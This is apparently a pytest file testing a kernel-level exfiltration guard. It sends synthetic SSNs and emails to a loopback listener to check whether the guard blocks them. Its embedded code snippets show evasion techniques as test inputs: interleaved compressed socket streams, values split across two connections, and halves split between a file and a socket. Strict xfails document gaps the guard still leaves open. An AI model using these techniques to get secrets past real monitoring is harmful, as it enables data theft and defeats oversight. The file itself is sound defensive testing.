"""Values spread over several streams and connections to an allowed host (issue 15 item 2,
leaks17), in the red15e kernel (``test_red15e_network.Net``: the loopback listeners, the host
allowed, the exfiltration budget spent, so every value the checks see is refused).

- More compressed streams at once on one socket than the guard follows (``exit_follow.LIVE``,
  8), interleaved send by send, values only past each stream's first send: to be refused, as
  the bound is exceeded (fail closed), before a stream goes unread (a strict xfail: they leave
  uncounted today).
- Each value cut in two, the heads sent on one connection and the tails on another, send by
  send in turn: every socket's sends to the host are read joined, in order (``exit_socket``).

Judged by effect: what the raw TCP listener received, read back the way its sender framed it
(the streams' lengths first, then rounds of ``N`` bytes; the connections' sends paired in
order), and every message of the cell. Benign twins: eight interleaved streams of plain data,
and nine sent one after another, arrive whole; halves of plain ids over two connections too.
Holes left (strict xfails): more streams than the bound; a value's halves written to a file
and sent to the host."""
from __future__ import annotations

import re
import struct
import zlib

import pytest

from tests.enforce.test_red15c_corpus import raw_in, recover, wire_text
from tests.enforce.test_red15e_network import Net, decoded, net  # noqa: F401 - the fixture

pytestmark = pytest.mark.kernel

N = 64
FILLER = "F = ','.join(str(100 + i) for i in range(400))\n"   # plain ids: no value in send 1
STREAMS = (FILLER + "import zlib, socket, struct\nG = [E[5:30][k::{n}] + S[5:30][k::{n}] for k "
           "in range({n})]\ngs = [zlib.compress((F + ',' + ','.join(g)).encode()) for g in "
           "{groups}]\ns = socket.create_connection(('127.0.0.1', TPORT))\n"
           "s.sendall(struct.pack('!{n}I', *map(len, gs)))\n"
           "for i in range(0, max(map(len, gs)), {N}):\n    for g in gs:\n"
           "        if g[i:i + {N}]:\n            s.send(g[i:i + {N}])\ns.close()")


def _tcp(got: bytes) -> list[bytes]:
    """The raw TCP listener's connections (``red15e_listen``: listeners, then connections)."""
    return [c for c in got.split(b"\n--listener--\n")[1].split(b"\n--conn--\n") if c]


def _rounds(conn: bytes, n: int) -> list[bytes]:
    """``conn`` read as the sender framed it: ``n`` lengths, then rounds of ``N`` bytes of
    each stream in turn; each stream inflated."""
    if len(conn) < 4 * n:
        return []
    lens = struct.unpack(f"!{n}I", conn[:4 * n])
    parts, at = [b""] * n, 4 * n
    for i in range(0, max(lens), N):
        for k in range(n):
            take = max(0, min(N, lens[k] - i))
            parts[k] += conn[at:at + take]
            at += take
    out = []
    for p in parts:
        try:
            out.append(zlib.decompressobj().decompress(p))
        except zlib.error:
            continue
    return out


def _leaked(wire: bytes, got: bytes, n: int) -> list[str]:
    back = [b for c in _tcp(got) for b in _rounds(c, n)]
    return raw_in(decoded(wire) + decoded(got) + back)


@pytest.mark.xfail(strict=True, raises=AssertionError,
                   reason="past exit_follow.LIVE readings the least recently fed is dropped, "
                   "unread; refusing there instead also refused one zip or tar sent 7 bytes a "
                   "send (a stream found again from each send, each a reading of its own) and "
                   "eight plain streams with one start (each send taken by all, kept both ways)")
@pytest.mark.parametrize("n", [9, 12])
def test_more_streams_than_followed_are_refused(net: Net,  # noqa: F811 - fixture
                                                n: int) -> None:
    ok, wire, got = net.run(f"streams{n}", STREAMS.format(n=n, N=N, groups="G"))
    leaked = _leaked(wire, got, n)
    assert not leaked, f"{n} streams (ran: {ok}) let out {len(leaked)} values: {leaked[:3]}"
    text = wire.decode("utf-8", "replace")
    assert not ok and "exfiltration" in text and "compressed streams at once" in text, text[:2000]


@pytest.mark.parametrize("n", [8, 9])
def test_plain_streams_arrive_whole(net: Net, n: int) -> None:  # noqa: F811 - fixture
    """Plain data: eight interleaved, or nine one after another (``n == 9``), arrive whole."""
    code = STREAMS.format(n=n, N=N, groups=f"[[str(k)] * 3 for k in range({n})]")
    if n == 9:
        code = code.replace("for i in range(0, max(map(len, gs)), 64):\n    for g in gs:\n"
                            "        if g[i:i + 64]:\n            s.send(g[i:i + 64])",
                            "for g in gs:\n    for i in range(0, len(g), 64):\n"
                            "        s.send(g[i:i + 64])")
    ok, wire, got = net.run(f"plain{n}", code)
    assert ok, wire[-2000:]
    conn = _tcp(got)[0]
    if n == 9:   # one after another: the lengths, then each stream whole
        lens = struct.unpack("!9I", conn[:36])
        at, back = 36, []
        for ln in lens:
            back.append(zlib.decompress(conn[at:at + ln]))
            at += ln
    else:
        back = _rounds(conn, n)
    filler = ",".join(str(100 + i) for i in range(400))
    assert back == [f"{filler},{k},{k},{k}".encode() for k in range(n)], back[:1]


HALVES = ("import socket\na = socket.create_connection(('127.0.0.1', TPORT))\n"
          "b = socket.create_connection(('127.0.0.1', TPORT))\n"
          "for v in {values}:\n    h = len(v) // 2\n    a.sendall(v[:h].encode() + b'\\n')\n"
          "    b.sendall(v[h:].encode() + b'\\n')\na.close(); b.close()")


def _paired(got: bytes) -> bytes:
    """Two connections' lines joined pairwise (head + tail), as their sender cut them."""
    conns = _tcp(got)
    if len(conns) < 2:
        return b""
    return b"\n".join(x + y for x, y in zip(conns[0].split(b"\n"), conns[1].split(b"\n")))


def test_halves_over_two_connections_are_counted(net: Net) -> None:  # noqa: F811 - fixture
    ok, wire, got = net.run("halves", HALVES.format(values="E[5:30] + S[5:30]"))
    leaked = raw_in(decoded(wire) + decoded(got) + [_paired(got)])
    assert not leaked, f"(ran: {ok}) let out {len(leaked)} values: {leaked[:3]}"
    assert not ok and "exfiltration" in wire.decode("utf-8", "replace"), wire[:2000]


def test_halves_of_plain_ids_arrive(net: Net) -> None:  # noqa: F811 - fixture
    ids = [f"ID-{1000 + i}-X" for i in range(20)]
    ok, wire, got = net.run("halves_plain", HALVES.format(values=repr(ids)))
    assert ok, wire[-2000:]
    assert _paired(got).split(b"\n")[:20] == [i.encode() for i in ids]


@pytest.mark.xfail(strict=True, raises=AssertionError,
                   reason="a file's writes and a socket's sends are read apart: an SSN's head "
                   "in a local file and its tail sent to an allowed host are no value in either "
                   "(an e-mail's head holding its local part is refused as it is: known_emails)")
def test_halves_over_a_file_and_a_socket(net: Net) -> None:  # noqa: F811 - fixture
    code = ("import socket\ns = socket.create_connection(('127.0.0.1', TPORT))\n"
            "with open(OUT, 'w') as f:\n    for v in S[5:30]:\n"
            "        h = len(v) // 2\n        f.write(v[:h] + '\\n'); f.flush()\n"
            "        s.sendall(v[h:].encode() + b'\\n')\ns.close()")
    ok, wire, got = net.run("file_socket", code)
    path = net.workdir / "r15e_file_socket"
    heads = path.read_bytes().split(b"\n") if path.exists() else []
    tails = _tcp(got)[0].split(b"\n") if _tcp(got) else []
    joined = b"\n".join(x + y for x, y in zip(heads, tails))
    assert not raw_in([joined]), f"(ran: {ok}) {recover(joined)[:200]}"
    assert re.search(rb"\S", wire)


def test_ids_the_guard_made_are_no_leak() -> None:
    """A refusal's ids are random hex: read with letters as digits, ``b0aaaaacg`` spells the
    SSN ``100000026`` (one refused cell in ~25,000 failed the halves test so): the wire is read
    without them, and a value the cell did print is still found."""
    made = "b0aaaaacg" + "e" * 23
    guard = {"decision_id": made, "policy": {"revision": "f00dfeedbeef"},
             "approval": {"request_id": "cafe0000beef", "command": "approve cafe0000beef"}}
    error = {"ename": "GuardBlocked", "traceback": ["Blocked"], "jupyter_guard": guard}
    reply = {"content": {"status": "error", **error,
                         "engine_info": {"engine_uuid": "b0aaaaac-g000-4000-8000-000000000000"}}}
    seen = [{"msg_type": "error", "content": error, "metadata": {}}]
    assert raw_in(decoded(wire_text(seen, reply).encode())) == []
    error["traceback"] = ["Blocked", "100000026"]
    assert raw_in(decoded(wire_text(seen, reply).encode())) == ["100000026"]
